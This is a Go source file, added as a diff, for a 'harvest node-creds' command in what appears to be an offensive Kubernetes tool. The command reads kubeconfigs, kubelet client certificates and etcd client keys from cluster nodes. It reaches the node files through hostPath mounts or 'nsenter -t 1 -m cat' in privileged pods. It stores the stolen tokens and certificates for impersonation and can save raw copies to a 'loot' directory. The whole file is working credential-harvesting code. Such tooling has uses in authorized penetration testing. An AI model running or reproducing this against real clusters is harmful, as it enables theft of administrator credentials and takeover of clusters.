@@ -0,0 +1,476 @@
+package commands
+
+import (
+	"context"
+	"fmt"
+	"regexp"
+	"strings"
+	"time"
+
+	"kctl/config"
+	"kctl/internal/console/completion"
+	"kctl/internal/i18n"
+	"kctl/internal/output"
+	"kctl/internal/session"
+	"kctl/internal/transport"
+	"kctl/pkg/kubeconfig"
+	"kctl/pkg/types"
+)
+
+// HarvestCmd harvest 命令
+type HarvestCmd struct{}
+
+func init() {
+	Register(&HarvestCmd{})
+}
+
+// nodeCredFiles 节点上常见的 kubeconfig 与客户端证书
+var nodeCredFiles = []string{
+	"/etc/kubernetes/admin.conf",
+	"/etc/kubernetes/super-admin.conf",
+	"/etc/kubernetes/kubelet.conf",
+	"/etc/kubernetes/bootstrap-kubelet.conf",
+	"/etc/kubernetes/controller-manager.conf",
+	"/etc/kubernetes/scheduler.conf",
+	"/var/lib/kubelet/kubeconfig",
+	"/var/lib/kubelet/bootstrap-kubeconfig",
+	"/var/lib/kubelet/pki/kubelet-client-current.pem",
+}
+
+// nodeEtcdCertFiles 控制平面节点上的 etcd 客户端证书（kubeadm 默认路径），可直接访问 etcd 读取 /registry
+var nodeEtcdCertFiles = []struct{ cert, key, ca string }{
+	{"/etc/kubernetes/pki/apiserver-etcd-client.crt", "/etc/kubernetes/pki/apiserver-etcd-client.key", "/etc/kubernetes/pki/etcd/ca.crt"},
+	{"/etc/kubernetes/pki/etcd/healthcheck-client.crt", "/etc/kubernetes/pki/etcd/healthcheck-client.key", "/etc/kubernetes/pki/etcd/ca.crt"},
+}
+
+// bootstrapTokenRe bootstrap token 格式: <token-id>.<token-secret>
+var bootstrapTokenRe = regexp.MustCompile(`^([a-z0-9]{6})\.[a-z0-9]{16}$`)
+
+func (c *HarvestCmd) Name() string {
+	return "harvest"
+}
+
+func (c *HarvestCmd) Aliases() []string {
+	return nil
+}
+
+func (c *HarvestCmd) Description() string {
+	return "收集节点 kubeconfig 和客户端证书"
+}
+
+// IsDestructive harvest 通过 exec 读取节点文件
+func (c *HarvestCmd) IsDestructive(args []string) bool {
+	return true
+}
+
+func (c *HarvestCmd) Usage() string {
+	return `harvest node-creds [options]
+
+通过主机文件系统访问（hostPath 挂载或特权 hostPID Pod）读取节点上的 kubeconfig 和 Kubelet 客户端证书，
+解析出 Token / 客户端证书并保存到凭据库，使用 creds 查看和切换
+
+读取的文件：
+` + nodeCredFilesUsage() + `  kubeconfig 中引用的证书、私钥和 Token 文件也会一并读取
+
+选项：
+  --pod <[ns/]name>       使用指定 Pod（默认: 优先挂载了 hostPath 的 Pod，其次特权 hostPID Pod）
+  --via <hostfs|nsenter>  访问方式：hostfs 通过 hostPath 挂载读取，nsenter 通过 nsenter -t 1 -m 读取
+  --out <dir>             同时将原始文件保存到本地目录（按主机路径建立子目录）
+  --confirm               当前 SA 为 cluster-admin 时必须指定
+
+示例：
+  harvest node-creds
+  harvest node-creds --via nsenter --pod kube-system/node-agent-x7k2p
+  harvest node-creds --out ./loot
+  creds use 3`
+}
+
+func nodeCredFilesUsage() string {
+	var b strings.Builder
+	for _, f := range nodeCredFiles {
+		fmt.Fprintf(&b, "  %s\n", f)
+	}
+	for _, f := range nodeEtcdCertFiles {
+		fmt.Fprintf(&b, "  %s（etcd 客户端证书，使用 etcd 命令测试）\n", f.cert)
+	}
+	return b.String()
+}
+
+// Flags harvest 的选项补全
+func (c *HarvestCmd) Flags(args []string) []completion.Flag {
+	if len(args) == 0 {
+		return nil
+	}
+	return []completion.Flag{
+		{Name: "--pod", Arg: "<[ns/]name>", Description: "使用指定 Pod", Values: completion.QualifiedPods},
+		{Name: "--via", Arg: "<hostfs|nsenter>", Description: "访问方式", Values: completion.Choices(
+			completion.Suggestion{Text: "hostfs", Description: "通过 hostPath 挂载读取"},
+			completion.Suggestion{Text: "nsenter", Description: "通过特权 hostPID Pod 读取"},
+		)},
+		{Name: "--out", Arg: "<dir>", Description: "保存原始文件到本地目录"},
+		flagConfirm,
+	}
+}
+
+// Suggestions harvest 的子命令补全
+func (c *HarvestCmd) Suggestions(sess *session.Session, args []string) []completion.Suggestion {
+	return subcommandSuggestions(args,
+		completion.Suggestion{Text: "node-creds", Description: "收集节点 kubeconfig 和客户端证书"},
+	)
+}
+
+func (c *HarvestCmd) Execute(sess *session.Session, args []string) error {
+	if len(args) == 0 || args[0] != "node-creds" {
+		return i18n.Errorf("用法: harvest node-creds [--pod <[ns/]name>] [--via <hostfs|nsenter>] [--out <dir>]")
+	}
+
+	target := ""
+	via := ""
+	outDir := ""
+	for i := 1; i < len(args); i++ {
+		switch args[i] {
+		case "--pod":
+			if i+1 < len(args) {
+				target = args[i+1]
+				i++
+			}
+		case "--via":
+			if i+1 < len(args) {
+				via = args[i+1]
+				i++
+			}
+		case "--out":
+			if i+1 < len(args) {
+				outDir = args[i+1]
+				i++
+			}
+		default:
+			return i18n.Errorf("未知选项: %s", args[i])
+		}
+	}
+	if via != "" && via != "hostfs" && via != "nsenter" {
+		return i18n.Errorf("无效的访问方式: %s (可用: hostfs, nsenter)", via)
+	}
+
+	reader, err := c.openReader(sess, target, via)
+	if err != nil {
+		return err
+	}
+	return c.harvestNodeCreds(sess, reader, outDir)
+}
+
+// hostReader 读取节点文件
+type hostReader interface {
+	// readFile 读取主机文件，文件不存在或不可访问时 ok 为 false
+	readFile(ctx context.Context, hostPath string) (data []byte, ok bool, err error)
+	// node 返回文件所在节点
+	node() string
+}
+
+// openReader 选择主机文件系统访问方式：优先 hostPath 挂载，其次特权 hostPID Pod
+func (c *HarvestCmd) openReader(sess *session.Session, target, via string) (hostReader, error) {
+	executor, err := sess.GetExecTransport()
+	if err != nil {
+		return nil, err
+	}
+
+	if via != "nsenter" {
+		pod, mounts, err := (&HostFSCmd{}).selectPod(sess, target, "")
+		if err == nil {
+			return &hostFS{sess: sess, exec: executor, pod: pod, mounts: mounts}, nil
+		}
+		if via == "hostfs" {
+			return nil, err
+		}
+	}
+
+	namespace, pod, container, err := (&NodeShellCmd{}).findPod(sess, target, "")
+	if err != nil {
+		return nil, err
+	}
+	if pod == "" {
+		return nil, i18n.Errorf("没有挂载 hostPath 或特权 hostPID 的可用 Pod，可先执行 deploy hostpath 或 deploy nsenter")
+	}
+	p := sess.Printer
+	p.Printf("%s Using privileged hostPID pod %s/%s (nsenter)\n", p.Colored(config.ColorBlue, "[*]"), namespace, pod)
+
+	r := &nsenterFS{exec: executor, namespace: namespace, pod: pod, container: container}
+	for _, cached := range sess.GetCachedPods() {
+		if cached.Namespace == namespace && cached.PodName == pod {
+			r.nodeName = cached.NodeName
+			break
+		}
+	}
+	return r, nil
+}
+
+// nsenterFS 在特权 hostPID Pod 中通过 nsenter 进入节点挂载命名空间读取文件
+type nsenterFS struct {
+	exec      transport.ExecTransport
+	namespace string
+	pod       string
+	container string
+	nodeName  string
+}
+
+func (n *nsenterFS) readFile(ctx context.Context, hostPath string) ([]byte, bool, error) {
+	result, err := n.exec.Exec(ctx, &types.ExecOptions{
+		Namespace: n.namespace,
+		Pod:       n.pod,
+		Container: n.container,
+		Command:   []string{"nsenter", "-t", "1", "-m", "--", "cat", hostPath},
+		Stdout:    true,
+		Stderr:    true,
+	})
+	if err != nil {
+		return nil, false, i18n.Errorf("执行命令失败: %w", err)
+	}
+	if result.ExitCode != 0 || result.Error != "" || result.Stdout == "" {
+		return nil, false, nil
+	}
+	return []byte(result.Stdout), true, nil
+}
+
+func (n *nsenterFS) node() string {
+	return n.nodeName
+}
+
+// credHarvester 读取文件并解析凭据，同一文件只读取一次
+type credHarvester struct {
+	sess   *session.Session
+	reader hostReader
+	outDir string
+	files  map[string][]byte // 主机路径 -> 内容，不存在时为 nil
+	seen   map[string]bool   // 已收集的凭据（去重）
+	creds  []*types.CredentialRecord
+}
+
+// fetch 读取主机文件（带缓存），首次读取时输出结果
+func (h *credHarvester) fetch(hostPath string) ([]byte, error) {
+	if data, ok := h.files[hostPath]; ok {
+		return data, nil
+	}
+	p := h.sess.Printer
+	data, ok, err := h.reader.readFile(h.sess.Context(), hostPath)
+	if err != nil {
+		return nil, err
+	}
+	h.files[hostPath] = data
+	if !ok {
+		p.Printf("%s %s %s\n", p.Colored(config.ColorGray, "[-]"), hostPath, p.Colored(config.ColorGray, "not found"))
+		return nil, nil
+	}
+	p.Printf("%s %s (%d bytes)\n", p.Colored(config.ColorGreen, "[+]"), hostPath, len(data))
+	if h.outDir != "" {
+		if _, err := saveHostFile(h.outDir, hostPath, data); err != nil {
+			return nil, err
+		}
+	}
+	return data, nil
+}
+
+// add 记录一条凭据，重复的身份和凭据内容只保留第一次出现的来源
+func (h *credHarvester) add(cred *types.CredentialRecord) {
+	key := cred.Kind + "|" + cred.Identity + "|" + cred.Token + cred.ClientCert
+	if h.seen[key] {
+		return
+	}
+	h.seen[key] = true
+	h.creds = append(h.creds, cred)
+}
+
+// source 返回凭据来源描述
+func (h *credHarvester) source(hostPath string) string {
+	if node := h.reader.node(); node != "" {
+		return node + ":" + hostPath
+	}
+	return hostPath
+}
+
+// fromKubeconfig 解析 kubeconfig 中的每个用户凭据
+func (h *credHarvester) fromKubeconfig(hostPath string, data []byte) error {
+	cfg, err := kubeconfig.Parse(data)
+	if err != nil {
+		h.sess.Printer.Warning(fmt.Sprintf("%s: %v", hostPath, err))
+		return nil
+	}
+
+	for _, e := range cfg.Entries {
+		cred := &types.CredentialRecord{
+			Source:   h.source(hostPath),
+			Server:   e.Server,
+			CAData:   string(e.CAData),
+			Identity: e.User,
+		}
+		if len(e.CAData) == 0 && e.CAFile != "" {
+			ca, err := h.fetch(e.CAFile)
+			if err != nil {
+				return err
+			}
+			cred.CAData = string(ca)
+		}
+
+		tokenStr := e.Token
+		if tokenStr == "" && e.TokenFile != "" {
+			data, err := h.fetch(e.TokenFile)
+			if err != nil {
+				return err
+			}
+			tokenStr = strings.TrimSpace(string(data))
+		}
+		if tokenStr != "" {
+			tokenCred := *cred
+			tokenCred.Kind = types.CredentialToken
+			tokenCred.Token = tokenStr
+			if m := bootstrapTokenRe.FindStringSubmatch(tokenStr); m != nil {
+				tokenCred.Identity = "system:bootstrap:" + m[1]
+				tokenCred.Groups = "system:bootstrappers"
+			}
+			h.add(&tokenCred)
+		}
+
+		certPEM, keyPEM := e.ClientCertData, e.ClientKeyData
+		if len(certPEM) == 0 && e.ClientCertFile != "" {
+			if certPEM, err = h.fetch(e.ClientCertFile); err != nil {
+				return err
+			}
+		}
+		if len(keyPEM) == 0 && e.ClientKeyFile != "" {
+			if keyPEM, err = h.fetch(e.ClientKeyFile); err != nil {
+				return err
+			}
+		}
+		if len(certPEM) > 0 {
+			// 证书和私钥可能在同一文件中（kubelet-client-current.pem）
+			cert, key := kubeconfig.SplitPEM(certPEM)
+			if len(keyPEM) > 0 {
+				_, key = kubeconfig.SplitPEM(keyPEM)
+			}
+			h.addClientCert(cred, cert, key, hostPath)
+		}
+	}
+	return nil
+}
+
+// fromPEM 解析证书和私钥合并的 PEM 文件
+func (h *credHarvester) fromPEM(hostPath string, data []byte) {
+	cert, key := kubeconfig.SplitPEM(data)
+	h.addClientCert(&types.CredentialRecord{Source: h.source(hostPath)}, cert, key, hostPath)
+}
+
+// fromCertPair 读取分开存放的证书、私钥和 CA，证书不存在时跳过
+func (h *credHarvester) fromCertPair(certPath, keyPath, caPath string) error {
+	cert, err := h.fetch(certPath)
+	if err != nil || cert == nil {
+		return err
+	}
+	key, err := h.fetch(keyPath)
+	if err != nil {
+		return err
+	}
+	ca, err := h.fetch(caPath)
+	if err != nil {
+		return err
+	}
+	h.addClientCert(&types.CredentialRecord{Source: h.source(certPath), CAData: string(ca)}, cert, key, certPath)
+	return nil
+}
+
+// addClientCert 解析证书身份并记录客户端证书凭据
+func (h *credHarvester) addClientCert(base *types.CredentialRecord, certPEM, keyPEM []byte, hostPath string) {
+	if len(certPEM) == 0 || len(keyPEM) == 0 {
+		h.sess.Printer.Warning(i18n.Tf("%s: 证书或私钥缺失，跳过", hostPath))
+		return
+	}
+	info, err := kubeconfig.ParseClientCert(certPEM)
+	if err != nil {
+		h.sess.Printer.Warning(fmt.Sprintf("%s: %v", hostPath, err))
+		return
+	}
+	cred := *base
+	cred.Kind = types.CredentialClientCert
+	cred.Identity = info.CommonName
+	cred.Groups = strings.Join(info.Groups, ",")
+	cred.ClientCert = string(certPEM)
+	cred.ClientKey = string(keyPEM)
+	cred.ExpiresAt = info.NotAfter
+	h.add(&cred)
+}
+
+// harvestNodeCreds 读取节点凭据文件，解析并保存到凭据库
+func (c *HarvestCmd) harvestNodeCreds(sess *session.Session, reader hostReader, outDir string) error {
+	p := sess.Printer
+	h := &credHarvester{
+		sess:   sess,
+		reader: reader,
+		outDir: outDir,
+		files:  make(map[string][]byte),
+		seen:   make(map[string]bool),
+	}
+
+	for _, path := range nodeCredFiles {
+		data, err := h.fetch(path)
+		if err != nil {
+			return err
+		}
+		if data == nil {
+			continue
+		}
+		if strings.HasSuffix(path, ".pem") {
+			h.fromPEM(path, data)
+			continue
+		}
+		if err := h.fromKubeconfig(path, data); err != nil {
+			return err
+		}
+	}
+	for _, f := range nodeEtcdCertFiles {
+		if err := h.fromCertPair(f.cert, f.key, f.ca); err != nil {
+			return err
+		}
+	}
+
+	if len(h.creds) == 0 {
+		p.Warning(i18n.T("没有收集到凭据"))
+		return nil
+	}
+
+	now := time.Now()
+	tf := sess.TimeFormatter(false)
+	var rows [][]string
+	for _, cred := range h.creds {
+		cred.CollectedAt = now
+		cred.KubeletIP = sess.Config.KubeletIP
+		if err := sess.CredDB.Save(cred); err != nil {
+			return err
+		}
+		rows = append(rows, credentialRow(p, tf, cred))
+	}
+
+	p.Println()
+	output.NewTablePrinter().PrintSimple([]string{"ID", "KIND", "IDENTITY", "GROUPS", "EXPIRES", "SOURCE"}, rows)
+	p.Println()
+	p.Printf("%s Harvested %d credential(s), use 'creds use <id>' to authenticate with one\n",
+		p.Colored(config.ColorGreen, "[+]"), len(h.creds))
+	return nil
+}
+
+// credentialRow 凭据表格行，管理员身份标红
+func credentialRow(p output.Printer, tf output.TimeFormatter, cred *types.CredentialRecord) []string {
+	identity := cred.Identity
+	if cred.IsAdmin() {
+		identity = p.Colored(config.ColorRed, identity)
+	}
+	groups := cred.Groups
+	if groups == "" {
+		groups = "-"
+	}
+	return []string{
+		fmt.Sprintf("%d", cred.ID),
+		cred.Kind,
+		identity,
+		groups,
+		tf.Format(cred.ExpiresAt),
+		cred.Source,
+	}
+}